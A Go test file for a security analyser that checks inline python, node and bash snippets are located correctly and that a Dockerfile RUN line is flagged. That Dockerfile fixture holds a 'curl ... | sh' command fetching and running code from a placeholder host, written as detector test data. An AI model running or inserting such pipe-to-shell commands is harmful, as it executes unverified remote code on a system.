package shell_test

import (
	"context"
	"fmt"
	"slices"
	"testing"

	"skillgate.dev/skillgate/analyzers/analysis"
	"skillgate.dev/skillgate/analyzers/shell"
	"skillgate.dev/skillgate/rules"
	"skillgate.dev/skillgate/skill"
)

// TestDerivedUnits checks that constant code given to python -c, node -e
// and bash -c becomes a unit of its language placed on the script's line.
func TestDerivedUnits(t *testing.T) {
	script := []byte("#!/bin/sh\necho start\npython3 -c 'import os; print(os.getcwd())'\nnode -e \"console.log(1)\"\nbash -c 'ls'\n")
	s := memSkill(script)
	var got []string
	probe := &analysis.Analyzer{
		Name: "probe", Doc: "probe", Langs: []string{"python", "javascript", "shell"},
		Run: func(p *analysis.Pass) error {
			for _, u := range p.Units {
				if u.Depth > 0 {
					got = append(got, fmt.Sprintf("%s %s:%d:%d %q", u.Lang, u.Path, u.Line, u.Col, u.Src))
				}
			}
			return nil
		},
	}
	if _, err := analysis.Run(context.Background(), s, rules.MustLoad(), []*analysis.Analyzer{shell.Analyzer, probe}); err != nil {
		t.Fatal(err)
	}
	slices.Sort(got)
	want := []string{
		`javascript run.sh:4:10 "console.log(1)"`,
		`python run.sh:3:13 "import os; print(os.getcwd())"`,
		`shell run.sh:5:10 "ls"`,
	}
	if !slices.Equal(got, want) {
		t.Errorf("derived units:\n got %q\nwant %q", got, want)
	}
}

// TestDockerfile checks that a Dockerfile's RUN lines are analysed on
// their own lines and the rest is not parsed as shell.
func TestDockerfile(t *testing.T) {
	df := []byte("FROM alpine:3.20\nCOPY . /app\nRUN apk add curl && \\\n    curl -s https://get.example.test/x | sh\nCMD [\"/app/run\"]\n")
	s := memSkill(nil)
	s.Files[1] = &skill.File{Path: "Dockerfile", Data: df, Kind: skill.Text, Lang: "shell"}
	res, err := analysis.Run(context.Background(), s, rules.MustLoad(), []*analysis.Analyzer{shell.Analyzer})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range res.Findings {
		got = append(got, fmt.Sprintf("%d %s", f.Location.StartLine, f.RuleID))
	}
	if !slices.Equal(got, []string{"4 SG2001"}) {
		t.Errorf("findings %q, want [4 SG2001]", got)
	}
}
